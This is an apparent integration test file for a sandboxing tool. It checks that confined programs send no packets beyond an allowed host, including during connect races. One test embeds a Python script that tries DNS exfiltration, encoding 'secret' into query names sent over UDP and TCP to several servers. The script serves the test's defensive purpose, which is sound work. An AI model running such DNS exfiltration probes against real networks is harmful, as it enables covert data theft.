// SPDX-FileCopyrightText: The Revet developers
// SPDX-License-Identifier: Apache-2.0

#include "tests/integration/local_internet.h"
#include "tests/support/kernel_gate.h"

#include <QTest>

#include <cstdlib>
#include <fstream>
#include <set>
#include <string>

using namespace revet::test;

namespace {

constexpr const char* kAllowed = "93.184.216.34";
constexpr const char* kForbidden = "93.184.216.35";

using Packets = std::set<std::string>;

} // namespace

/// E016, E019, E022, E023, E024, E036, E056, E082: whatever a program in a box tries, no packet leaves this
/// machine for elsewhere than what is allowed. Listened for outside, packet by packet.
class EscapeNetworkTest : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase()
    {
        REVET_NEEDS_ORDINARY_USER();
        REVET_NEEDS(UserNamespaces);
        REVET_NEEDS(SeccompNotify);
        for (const char* const program : {"python3", "ip", "setpriv", "unshare"}) {
            REVET_NEEDS_PROGRAM(program);
        }
    }

    void letsNothingOutOfLine_data() { addTierRows(); }
    void letsNothingOutOfLine()
    {
        const World world;
        const Finished finished = inInternet(world, {"--allow-host", std::string(kAllowed) + ":80"},
                                             {world.victim("reach_out"), kAllowed, kForbidden});
        QVERIFY2(finished.out.find("udp-sendto-") != std::string::npos, finished.err.c_str());
        const Packets left = packetsOf(world);
        QVERIFY2(left == Packets{"tcp 93.184.216.34:80"}, joined(left).c_str());
    }

    void hearsWhatAnUnboxedProgramSends()
    {
        const World world;
        static_cast<void>(onInternet(world, {world.victim("reach_out"), kAllowed, kForbidden}));
        const Packets left = packetsOf(world);
        for (const char* const packet :
             {"tcp 93.184.216.35:80", "udp 93.184.216.35:9999", "udp 93.184.216.34:53"}) {
            QVERIFY2(left.contains(packet), (std::string(packet) + " not in " + joined(left)).c_str());
        }
    }

    void looksUpNothingThatIsNotListed_data() { addTierRows(); }
    void looksUpNothingThatIsNotListed()
    {
        const World world;
        const Finished finished = inInternet(world, {"--allow-host", "allowed.test"}, {"/bin/sh", "-c", R"(
getent hosts c2VjcmV0.other.test c2VjcmV0.allowed.test >/dev/null
python3 - <<'END'
import socket, struct
def query(name, kind):
    labels = b''.join(bytes([len(l)]) + l for l in name.encode().split(b'.')) + b'\0'
    return b'\x12\x34\x01\0\0\x01\0\0\0\0\0\0' + labels + struct.pack('>HH', kind, 1)
def ask(server, name, kind):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.3)
    try:
        s.sendto(query(name, kind), (server, 53)); s.recv(4096)
    except OSError: pass
    t = socket.socket(); t.settimeout(0.3)
    try:
        t.connect((server, 53)); q = query(name, kind); t.send(struct.pack('>H', len(q)) + q); t.recv(4096)
    except OSError: pass
for server in ('198.18.0.1', '93.184.216.53', '93.184.216.35'):
    for kind in (1, 2, 5, 10, 12, 15, 16, 28, 33, 64, 65, 255): # A, NS, CNAME, NULL, PTR, MX, TXT, … ANY
        ask(server, 'c2VjcmV0.other.test', kind)
        ask(server, 'allowed.test', kind) if kind not in (1, 28) else None
END
)"});
        QCOMPARE(finished.out, "asked outside: \n");
        const Packets left = packetsOf(world);
        QVERIFY2(left.empty(), joined(left).c_str());
    }

    void connectsNowhereElseInARace_data() { addTierRows(); }
    void connectsNowhereElseInARace()
    {
        const World world;
        const char* const rounds = std::getenv("REVET_RACE_ROUNDS"); // NOLINT(concurrency-mt-unsafe)
        const Finished finished = inInternet(
            world, {"--allow-host", std::string(kAllowed) + ":80"},
            {world.victim("race_connect"), kAllowed, kForbidden, rounds != nullptr ? rounds : "3000"});
        QVERIFY2(finished.status == 0, finished.err.c_str());
        // Both happened, so there was a race.
        QVERIFY2(finished.out.find("through 0\n") == std::string::npos, finished.out.c_str());
        QVERIFY2(finished.out.find("refused 0\n") == std::string::npos, finished.out.c_str());
        const Packets left = packetsOf(world);
        QVERIFY2(left == Packets{"tcp 93.184.216.34:80"}, joined(left).c_str());
    }

private:
    /// Once each, without those of connections that exist.
    static Packets packetsOf(const World& world)
    {
        Packets packets;
        for (const std::string& line : linesOf(world.home().home() / "packets")) {
            packets.insert(line);
        }
        return packets;
    }
    static std::string joined(const Packets& packets)
    {
        std::string text;
        for (const std::string& packet : packets) {
            text += packet + '\n';
        }
        return text;
    }
    static std::vector<std::string> linesOf(const std::filesystem::path& path)
    {
        std::ifstream file(path);
        std::vector<std::string> lines;
        for (std::string line; std::getline(file, line);) {
            lines.push_back(line);
        }
        return lines;
    }
};

QTEST_GUILESS_MAIN(EscapeNetworkTest)
#include "tst_escape_network.moc"
